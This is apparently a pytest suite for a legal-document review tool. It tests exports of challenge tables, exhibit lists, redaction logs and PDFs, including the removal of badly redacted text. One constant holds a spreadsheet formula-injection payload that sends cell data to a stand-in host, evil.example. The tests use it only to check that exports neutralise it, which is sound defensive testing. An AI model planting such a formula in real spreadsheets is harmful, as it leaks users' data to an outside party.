"""Exports end to end: tag a generated production through the CLI, export every kind in every
format, and read each file back with the library for its format."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import docx
import openpyxl
import pymupdf
import pytest

from tests.conftest import ROOT, truth_pages

INJECTION = '=HYPERLINK("http://evil.example/x?leak="&A1,"click")'
CAPTION = "AMERICAN IMMIGRATION COUNCIL, Plaintiff,\nv.\nU.S. IMMIGRATION AND CUSTOMS " \
          "ENFORCEMENT, Defendant."


def run(*args: str | Path, data: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "VAUGHN_DATA_DIR": str(data)}
    return subprocess.run([sys.executable, str(ROOT / "main.py"), *map(str, args)],
                          capture_output=True, text=True, cwd=ROOT, timeout=300, env=env)


def ok(out: subprocess.CompletedProcess) -> str:
    assert out.returncode == 0, out.stderr
    return out.stdout


@pytest.fixture(scope="module")
def tagged(tmp_path_factory: pytest.TempPathFactory, pdf_production) -> dict:
    """The production ingested and tagged through the CLI; what was tagged."""
    folder, truth = pdf_production
    base = tmp_path_factory.mktemp("export")
    data = base / "data"
    matter = base / "case.vaughn"
    pages = truth_pages(truth)
    b = [p["bates"] for p in pages]
    bad_page = next(p["bates"] for p in pages if any(r["bad"] for r in p["redactions"]))
    bad_doc = next(d for d in truth["documents"] if any(
        r["bad"] for p in d["pages"] for r in p["redactions"]))
    ok(run("ingest", matter, folder, data=data))
    ok(run("settings", matter, "--caption", CAPTION.replace("\n", "\\n"), "--case-number",
           "1:24-cv-01234", data=data))
    reds = json.loads(ok(run("redactions", matter, "--json", data=data)))
    ok(run("tag", matter, "--range", f"{b[0]}..{b[2]}", "--exhibit", "1", "--description",
           "Staffing memo", "--reviewer", "pat", data=data))
    ok(run("tag", matter, "--bates", bad_page, "--exhibit", "10", "--description",
           "Email with a bad redaction", "--reviewer", "pat", data=data))
    ok(run("tag", matter, "--range", f"{bad_doc['begbates']}..{bad_doc['endbates']}",
           "--exhibit", "2", "--description", "Email thread", "--reviewer", "pat", data=data))
    red_page = next(x for x in b[3:9] if sum(
        1 for r in reds if r["bates"] == x and r["exemptions"]) >= 3)
    challenged = [r for r in reds if r["bates"] == red_page and r["exemptions"]][:3]
    args = [x for r in challenged for x in ("--redaction", str(r["id"]))]
    ok(run("tag", matter, *args, "--challenge", "segreg", "--challenge", "public interest",
           "--argument", INJECTION, "--evidence", "DHS press release, 2023-05-01",
           "--priority", "high", "--reviewer", "pat", data=data))
    ok(run("tag", matter, "--bates", b[9], "--challenge", "foreseeable", "--argument",
           "No harm is identified.", "--disposition", "withheld in full", "--status",
           "challenge", "--priority", "m", "--reviewer", "pat", data=data))
    ok(run("tag", matter, "--bates", b[1], "--challenge", "waiver", "--status", "dropped",
           "--reviewer", "pat", data=data))
    return {"matter": matter, "data": data, "truth": truth, "bates": b, "reds": reds,
            "challenged": challenged, "red_page": red_page, "bad_page": bad_page, "bad_doc": bad_doc,
            "out": base / "out"}


def export(tagged: dict, kind: str, name: str, *extra: str) -> Path:
    out = tagged["out"]
    out.mkdir(exist_ok=True)
    path = out / name
    text = ok(run("export", tagged["matter"], kind, "--out", path, *extra, data=tagged["data"]))
    assert "wrote" in text and path.exists()
    assert not [p for p in out.iterdir() if ".part" in p.name]
    return path


def xlsx_rows(path: Path) -> tuple[list, list[list], openpyxl.worksheet.worksheet.Worksheet]:
    ws = openpyxl.load_workbook(path).active
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    return rows[0], rows[1:], ws


def csv_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def docx_rows(path: Path) -> tuple[list[str], list[list[str]], list[str]]:
    d = docx.Document(str(path))
    table = d.tables[0]
    rows = [[c.text for c in r.cells] for r in table.rows]
    return rows[0], rows[1:], [p.text for p in d.paragraphs]


CHALLENGE_HEADER = ["Item no.", "Bates", "Page", "Exemption(s) claimed", "Disposition",
                    "Ground(s)", "Argument", "Evidence", "Status", "Priority"]


def test_challenge_table_every_format(tagged: dict) -> None:
    b = tagged["bates"]
    expect = []
    for r in sorted(tagged["challenged"], key=lambda r: (r["bbox"][1], r["bbox"][0])):
        expect.append([tagged["red_page"], "; ".join(["Segregability", "Public interest outweighs privacy"]),
                       "'" + INJECTION, "Challenge", "High", ", ".join(r["exemptions"])])
    expect.append([b[9], "Foreseeable harm not shown", "No harm is identified.", "Challenge",
                   "Medium", None])
    # the dropped challenge on b[1] comes first in Bates order
    expect.insert(0, [b[1], "Waiver / public domain", "", "Dropped", "", None])

    header, rows, ws = xlsx_rows(export(tagged, "challenges", "challenges.xlsx"))
    assert header == CHALLENGE_HEADER
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:J{len(rows) + 1}"
    assert ws.column_dimensions["G"].width >= 30
    assert [r[0] for r in rows] == list(range(1, len(expect) + 1))
    for row, (bates, grounds, argument, status, priority, codes) in zip(rows, expect,
                                                                         strict=True):
        assert row[1] == bates and row[5] == grounds and (row[6] or "") == argument
        assert row[8] == status and (row[9] or "") == priority
        assert isinstance(row[2], int)  # the page number is a number
        if codes is not None:
            assert (row[3] or "") == codes
    assert rows[-1][4] == "Withheld in full"
    assert rows[1][7] == "DHS press release, 2023-05-01"
    for cell in ws["G"][1:]:
        assert cell.data_type != "f" and not str(cell.value or "").startswith("=")

    header, crow = csv_rows(export(tagged, "challenges", "challenges.csv"))
    assert header == CHALLENGE_HEADER and len(crow) == len(expect)
    for row, (bates, grounds, argument, status, priority, _) in zip(crow, expect, strict=True):
        assert row[1] == bates and row[5] == grounds and row[6] == argument
        assert row[8] == status and row[9] == priority
    assert not any(c.startswith(("=", "+", "-", "@")) for r in crow for c in r)

    header, drow, paras = docx_rows(export(tagged, "challenges", "challenges.docx"))
    assert header == CHALLENGE_HEADER and len(drow) == len(expect)
    assert [r[1] for r in drow] == [e[0] for e in expect]
    assert "Challenge table" in paras and paras[0].startswith("AMERICAN IMMIGRATION")


def test_exhibit_list_every_format(tagged: dict) -> None:
    b, doc = tagged["bates"], tagged["bad_doc"]
    header, rows, ws = xlsx_rows(export(tagged, "exhibits", "exhibits.xlsx"))
    assert header == ["Exhibit no.", "Description", "Bates begin", "Bates end", "Document date",
                      "Pages", "Exemptions claimed", "Challenge grounds", "Status"]
    assert [r[0] for r in rows] == [1, 2, 10]  # number order, numbers as numbers
    assert [r[1] for r in rows] == ["Staffing memo", "Email thread",
                                    "Email with a bad redaction"]
    assert [(r[2], r[3]) for r in rows] == [(b[0], b[2]), (doc["begbates"], doc["endbates"]),
                                            (tagged["bad_page"], tagged["bad_page"])]
    assert [r[5] for r in rows] == [3, len(doc["pages"]), 1]
    assert all(isinstance(r[5], int) for r in rows)
    assert rows[0][7] is None  # the only challenge on exhibit 1's pages was dropped
    assert all(r[8] == "Planned" for r in rows)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    claimed = {c for p in truth_pages(tagged["truth"])[:3] for r in p["redactions"]
               for c in r["exemptions"]}
    assert set(filter(None, (rows[0][6] or "").split(", "))) <= claimed | {""}

    header, crow = csv_rows(export(tagged, "exhibits", "exhibits.csv"))
    assert [r[0] for r in crow] == ["1", "2", "10"] and crow[2][2] == tagged["bad_page"]

    header, drow, paras = docx_rows(export(tagged, "exhibits", "exhibits.docx"))
    assert header == ["PLF. NO.", "DEF. NO.", "DATE OFFERED", "MARKED", "ADMITTED",
                      "DESCRIPTION"]
    assert [r[0] for r in drow] == ["1", "2", "10"] and all(r[1] == "" for r in drow)
    assert drow[0][5] == f"Staffing memo ({b[0]}–{b[2]})"
    assert paras[:3] == CAPTION.splitlines() and "Case No. 1:24-cv-01234" in paras
    assert "PLAINTIFF'S EXHIBIT LIST" in paras

    pdf = pymupdf.open(export(tagged, "exhibits", "exhibits.pdf"))
    text = " ".join(p.get_text() for p in pdf)
    for word in ("PLF. NO.", "DEF. NO.", "ADMITTED", "DESCRIPTION", "Staffing memo",
                 "Email thread", "1:24-cv-01234", "PLAINTIFF'S EXHIBIT LIST"):
        assert word in text
    assert f"{b[0]}-{b[2]}" in text


def test_redaction_log(tagged: dict) -> None:
    reds = tagged["reds"]
    header, rows, ws = xlsx_rows(export(tagged, "redaction-log", "log.xlsx"))
    assert header == ["ID", "Bates", "Page", "Exemption(s)", "Raw stamp", "Bad",
                      "Hidden characters", "Withheld in full", "Share of page"]
    assert len(rows) == len(reds)
    by_id = {r["id"]: r for r in reds}
    for row in rows:
        r = by_id[row[0]]
        assert row[1] == r["bates"] and row[5] == ("yes" if r["bad"] else "no")
        assert (row[3] or "") == ", ".join(r["exemptions"]) and (row[4] or "") == r["label"]
        assert isinstance(row[8], float) and 0 < row[8] <= 1
        x0, y0, x1, y1 = r["bbox"]
        assert row[8] == pytest.approx((x1 - x0) * (y1 - y0) / (612 * 792), abs=1e-3)
    assert ws["I2"].number_format == "0.0%"
    bates_order = [r[1] for r in rows]
    assert bates_order == sorted(bates_order)
    truth_bad = sum(r["bad"] for p in truth_pages(tagged["truth"]) for r in p["redactions"])
    assert sum(r[5] == "yes" for r in rows) == truth_bad
    header, crow = csv_rows(export(tagged, "redaction-log", "log.csv"))
    assert len(crow) == len(reds) and [r[0] for r in crow] == [str(r[0]) for r in rows]
    assert float(crow[0][8]) == pytest.approx(rows[0][8], abs=1e-4)


def _all_text(pdf: pymupdf.Document) -> str:
    parts = [" ".join(str(v) for v in pdf.metadata.values() if v)]
    parts.append(pdf.get_xml_metadata() or "")
    for page in pdf:
        parts.append(" ".join(page.get_text().split()))
        for annot in page.annots():
            parts.append(" ".join(str(v) for v in annot.info.values()))
    parts.extend(str(t) for t in pdf.get_toc())
    return "\n".join(parts)


def test_exhibit_pdf_hides_bad_redactions(tagged: dict) -> None:
    truth = tagged["truth"]
    pages = {p["bates"]: p for p in truth_pages(truth)}
    exported = [*tagged["bates"][:3], *(p["bates"] for p in tagged["bad_doc"]["pages"]),
                tagged["bad_page"]]
    visible = " ".join(" ".join(pages[x]["visible_text"].split()) for x in exported)
    hidden = [" ".join(r["withheld_text"].split()) for x in exported
              for r in pages[x]["redactions"] if r["bad"]]
    assert hidden
    path = export(tagged, "exhibit-pdf", "exhibits-bundle.pdf")
    pdf = pymupdf.open(path)
    text = _all_text(pdf)
    # Strings hidden under bad boxes are gone, unless the production shows them elsewhere.
    leaked = [h for h in hidden if h in text and h not in visible]
    assert not leaked
    # On the pages themselves nothing hidden is left, not even repeated phrases.
    for page in pdf:
        label = page.get_label()
        if label in pages and any(r["bad"] for r in pages[label]["redactions"]):
            words = " ".join(page.get_text().split())
            assert not [h for h in hidden if h in words]
    # Bookmarks in number order, slip sheets, Bates numbers kept.
    toc = pdf.get_toc()
    assert [t[1].split(":")[0] for t in toc] == ["Exhibit 1", "Exhibit 2", "Exhibit 10"]
    assert pdf[toc[0][2] - 1].get_text().split()[:2] == ["EXHIBIT", "1"]
    assert len(pdf) == len(exported) + 3
    for x in exported:
        assert x in text
    # Sanitised: no metadata beyond the title, no scripts, attachments or old revisions.
    assert pdf.metadata["author"] == "" and pdf.metadata["title"] == "Exhibits"
    assert pdf.embfile_count() == 0 and not pdf.get_xml_metadata()
    raw = path.read_bytes()
    assert raw.count(b"%%EOF") == 1 and b"/JavaScript" not in raw and b"/JS " not in raw
    assert all(not a.info["content"] for p in pdf for a in p.annots())

    produced = pymupdf.open(export(tagged, "exhibit-pdf", "as-produced.pdf", "--as-produced",
                                   "--mark", "stamp"))
    text = _all_text(produced)
    assert [h for h in hidden if h in text and h not in visible]  # hidden text still there
    assert len(produced) == len(exported)  # stamps, no slip sheets
    assert "EXHIBIT 10" in produced[len(exported) - 1].get_text()


def test_summary_report_and_figures(tagged: dict) -> None:
    from app.export.summary import figures
    from app.matter.store import Matter

    truth = tagged["truth"]
    tp = truth_pages(truth)
    with Matter.open(tagged["matter"], read_only=True) as m:
        f = figures(m)
    assert f.pages == len(tp) and len(f.productions) == 1
    assert f.redactions == len(tagged["reds"])
    assert f.bad_redactions == sum(r["bad"] for p in tp for r in p["redactions"])
    assert f.withheld_pages == sum(
        1 for p in tp if p["withheld_in_full"] or p["bates"] == tagged["bates"][9])
    grounds = dict(f.challenges_by_ground)
    assert grounds == {"segregability": 3, "public_interest": 3, "foreseeable_harm": 1,
                       "waiver": 1}
    assert dict(f.challenges_by_status) == {"challenge": 4, "dropped": 1}
    assert f.exhibits == 3 and 0 < f.text_share < 1
    assert json.dumps(f.as_dict())
    pdf = pymupdf.open(export(tagged, "summary", "summary.pdf"))
    text = " ".join(p.get_text() for p in pdf)
    for word in ("Production summary", "Redactions by exemption", "Challenges by ground",
                 "Segregability", "Pages withheld in full", "Bad redactions"):
        assert word in text
    assert re.search(rf"Pages\s+{len(tp)}\b", text)
    bars = [d for p in pdf for d in p.get_drawings() if d.get("fill") and
            tuple(round(c, 2) for c in d["fill"]) == (0.2, 0.38, 0.62)]
    assert len(bars) >= 6
    assert pdf.metadata["author"] == "" and path_has_one_revision(tagged["out"] / "summary.pdf")


def path_has_one_revision(path: Path) -> bool:
    return path.read_bytes().count(b"%%EOF") == 1


def test_wrong_format_and_kind_are_clear_errors(tagged: dict) -> None:
    out = tagged["out"]
    out.mkdir(exist_ok=True)
    r = run("export", tagged["matter"], "redaction-log", "--out", out / "log.docx",
            data=tagged["data"])
    assert r.returncode == 1 and ".xlsx, .csv" in r.stderr and not (out / "log.docx").exists()
    r = run("export", tagged["matter"], "everything", "--out", out / "x.pdf",
            data=tagged["data"])
    assert r.returncode == 1 and "exhibit-pdf" in r.stderr
    r = run("export", tagged["matter"], "chall", "--out", out / "c2.csv", data=tagged["data"])
    assert r.returncode == 0 and (out / "c2.csv").exists()


def test_cancel_leaves_no_file_and_keeps_the_old_one(tagged: dict, tmp_path: Path) -> None:
    from app.errors import Cancelled
    from app.export import export as do_export
    from app.matter.store import Matter
    from app.progress import CancelToken

    target = tmp_path / "log.xlsx"
    target.write_bytes(b"previous export")
    seen: list[tuple[int, int]] = []
    token = CancelToken()

    def progress(done: int, total: int, what: str) -> None:
        seen.append((done, total))
        token.cancel()

    with Matter.open(tagged["matter"], read_only=True) as m:
        with pytest.raises(Cancelled):
            do_export(m, "redaction-log", target, progress=progress, cancel=token)
        assert target.read_bytes() == b"previous export"
        assert [p.name for p in tmp_path.iterdir()] == ["log.xlsx"]
        assert seen and seen[0][1] == len(tagged["reds"])
        seen.clear()
        do_export(m, "exhibit-pdf", tmp_path / "e.pdf", progress=lambda *a: seen.append(a[:2]))
        assert seen[-1][0] == seen[-1][1] > 0


def test_neutralise_and_dates() -> None:
    from app.export.writers import Column, neutralise, write_csv, write_xlsx

    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(lead + "1+1") == "'" + lead + "1+1"
    assert neutralise("plain") == "plain" and neutralise("") == ""
    cols = [Column("d", "Date", "date"), Column("n", "N", "int"), Column("t", "Text")]
    rows = [["2022-05-09", "12", "@SUM(A1)"], ["not a date", None, "-2+3"]]
    out = Path(os.environ["VAUGHN_DATA_DIR"])
    write_xlsx(out / "t.xlsx", cols, rows)
    ws = openpyxl.load_workbook(out / "t.xlsx").active
    assert ws["A2"].value == dt.datetime(2022, 5, 9) and ws["A2"].number_format == "yyyy-mm-dd"
    assert ws["B2"].value == 12 and ws["C2"].value == "'@SUM(A1)" and ws["C3"].data_type == "s"
    assert ws["A3"].value == "not a date"
    write_csv(out / "t.csv", cols, rows)
    assert (out / "t.csv").read_text("utf-8-sig").splitlines()[1:] == [
        "2022-05-09,12,'@SUM(A1)", "not a date,,'-2+3"]
